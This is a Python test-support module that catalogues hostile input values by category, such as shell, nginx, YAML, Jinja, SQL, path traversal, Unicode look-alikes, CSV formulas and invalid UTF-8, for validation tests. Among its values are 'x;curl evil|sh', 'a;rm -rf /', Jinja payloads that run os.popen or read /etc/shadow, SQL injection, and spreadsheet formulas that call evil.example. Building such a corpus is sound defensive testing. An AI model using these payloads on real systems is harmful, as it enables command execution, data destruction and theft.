"""The hostile-input corpus (issue 9, item 5): bad values tagged with their category.

Every test module under tests/hostile/ builds its cases from these lists and registers
them with `register(surface, cases)`, so test_corpus.py can count them per category and
per surface and check that every category the issue names is represented.

A case is (category, value); the value is what goes into the field (a string for command
line arguments and configuration values, any YAML value for a spec field).
"""

from __future__ import annotations

from collections import Counter
from typing import Any

# The categories issue 9 names, and "format" for the field-specific rules (a reserved
# name, a date that does not exist, a TTL out of range...).
SHELL, NEWLINE_NUL, NGINX, YAML, JINJA, SQL = "shell", "newline/NUL", "nginx", "YAML", "Jinja", "SQL"
TRAVERSAL, OVERLONG, LOOKALIKE, INVISIBLE, IDNA = "traversal", "over-long", "look-alike", "invisible", "invalid IDNA"
WRONG_TYPE, HUGE, FORMAT = "wrong type", "huge file", "format"
JINJA_TEXT = "Jinja in free text"  # issue 13: text fields that reach Ansible
# Issue 13: text a terminal, a spreadsheet or a decoder would act on, and files planted.
RICH, CSV_FORMULA, BAD_UTF8, PLANTED = "Rich markup", "CSV formula", "invalid UTF-8", "planted config"
CATEGORIES = (SHELL, NEWLINE_NUL, NGINX, YAML, JINJA, SQL, TRAVERSAL, OVERLONG, LOOKALIKE, INVISIBLE, IDNA,
              WRONG_TYPE, HUGE, JINJA_TEXT, RICH, CSV_FORMULA, BAD_UTF8, PLANTED)
SURFACES = ("argument", "spec", "config", "attachment")

Case = tuple[str, Any]

SHELL_VALUES: list[Case] = [(SHELL, v) for v in (
    "a;rm -rf /", "$(reboot)", "`id`", "a|b", "a&&b", "a>b", "${HOME}", "a b", "-rf", "x;curl evil|sh")]
NEWLINE_VALUES: list[Case] = [(NEWLINE_NUL, v) for v in ("disdik\n", "a\nb", "a\rb", "a\x00b", "a\tb", "a\r\nX-Injected: 1")]
NGINX_VALUES: list[Case] = [(NGINX, v) for v in (
    "server_name x; }", "include /etc/*;", "x; return 301 http://evil.example;", "a{b}")]
YAML_VALUES: list[Case] = [(YAML, v) for v in ("!!python/object:os.system", "*alias", "&a x", "{a: b}")]
JINJA_VALUES: list[Case] = [(JINJA, v) for v in (
    "{{7*7}}", "{%raw%}", "{{ lipsum.__globals__.os.popen('id').read() }}", "%(x)s", "{0.__class__}")]
#: Jinja inside ordinary text (issue 13): each would run on the controller if Ansible
#: templated it. MARKER is replaced by a path the test watches.
JINJA_TEXT_TEMPLATES: tuple[str, ...] = (
    "Sekolah {{ lookup('pipe', 'touch MARKER') }}",
    "{{ query('ansible.builtin.pipe', 'touch MARKER') }}",
    "Data {% set x = lookup('pipe', 'touch MARKER') %}siswa",
    "{% if lookup('pipe', 'touch MARKER') is string %}ya{% endif %}",
    "Guru {# catatan #}{{ lookup('pipe', 'touch MARKER') }}",
    "{{ lipsum.__globals__.os.popen('touch MARKER').read() }}",
    "{%- raw -%}{%- endraw -%}{{ lookup('file', '/etc/shadow') }}",
)
JINJA_TEXT_VALUES: list[Case] = [(JINJA_TEXT, t.replace("MARKER", "/tmp/kp-jinja-marker")) for t in JINJA_TEXT_TEMPLATES]
SQL_VALUES: list[Case] = [(SQL, v) for v in ("' OR '1'='1", "x'; DROP TABLE requests;--", "1 UNION SELECT 1")]
TRAVERSAL_VALUES: list[Case] = [(TRAVERSAL, v) for v in ("../../etc/passwd", "/etc/passwd", "..", "a/../../b")]
OVERLONG_VALUES: list[Case] = [(OVERLONG, "x" * 300), (OVERLONG, "a" * 5000)]
LOOKALIKE_VALUES: list[Case] = [(LOOKALIKE, v) for v in (
    "ｄｉｓｄｉｋ",  # full-width Latin
    "dіsdik",  # Cyrillic і among Latin
    "раураl",  # Cyrillic letters only, reads as "paypal"
)]
INVISIBLE_VALUES: list[Case] = [(INVISIBLE, v) for v in (
    "dis\u200bdik",  # zero-width space
    "dis\u202edik",  # right-to-left override
    "dis\u00addik",  # soft hyphen
    "\ufeffdisdik",  # byte order mark
)]
IDNA_VALUES: list[Case] = [(IDNA, v) for v in ("xn--zz", "a..b", "-ab", "ab--c", "x" * 64, "xn--a-ecp.ru-")]

#: For identifiers (slugs, codes, IDs, names): every one of these is wrong.
NAMES: list[Case] = (SHELL_VALUES + NEWLINE_VALUES + NGINX_VALUES + YAML_VALUES + JINJA_VALUES + SQL_VALUES
                     + TRAVERSAL_VALUES + OVERLONG_VALUES + LOOKALIKE_VALUES + INVISIBLE_VALUES)

#: Free text (names of agencies, notes, reasons): quotes and ';' are fine, these are not.
BAD_TEXT: list[Case] = [
    (FORMAT, ""), (FORMAT, "   "), (NEWLINE_NUL, "a\nb"), (NEWLINE_NUL, "a\rb"), (NEWLINE_NUL, "a\x00b"),
    (INVISIBLE, "a\x1b[31mb"), (INVISIBLE, "a\u200bb"), (INVISIBLE, "a\u202eb"), (INVISIBLE, "a\u2028b"),
    (OVERLONG, "x" * 5000),
]

#: Rich console markup: shown as written, never interpreted (a link, a style, an emoji code).
RICH_VALUES: list[Case] = [(RICH, v) for v in (
    "[link=https://evil.example/]klik di sini[/link]", "[bold red]PERINGATAN[/]", "[/]", "[blink]x[/blink]",
    ":skull: :warning:", "[reverse on white]x", "\\[bold]x")]
#: What a spreadsheet would run (OWASP "CSV injection"): stored as text, exported with a leading '.
CSV_VALUES: list[Case] = [(CSV_FORMULA, v) for v in (
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")")]
#: Bytes that are not UTF-8, as Python hands them over (lone surrogates, surrogateescape).
UTF8_VALUES: list[Case] = [(BAD_UTF8, b.decode("utf-8", "surrogateescape")) for b in (
    b"caf\xe9", b"\xff\xfe", b"\xc3\x28", b"\xe2\x82", b"abc\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"x\x80")]

_registry: dict[str, list[Case]] = {}


def register(surface: str, name: str, cases: list[Any], category_of: Any = lambda c: c[0]) -> list[Any]:
    """Record a list of cases under `surface` (argument, spec, config, attachment) and return
    it unchanged, for pytest.mark.parametrize. `category_of(case)` gives a case's category."""
    assert surface in SURFACES, surface
    _registry[f"{surface}:{name}"] = [(category_of(c), c) for c in cases]
    return cases


def counts() -> tuple[Counter[str], Counter[str]]:
    """(cases per category, cases per surface) over everything registered."""
    by_category: Counter[str] = Counter()
    by_surface: Counter[str] = Counter()
    for key, cases in _registry.items():
        surface = key.split(":", 1)[0]
        for category, _ in cases:
            by_category[category] += 1
            by_surface[surface] += 1
    return by_category, by_surface
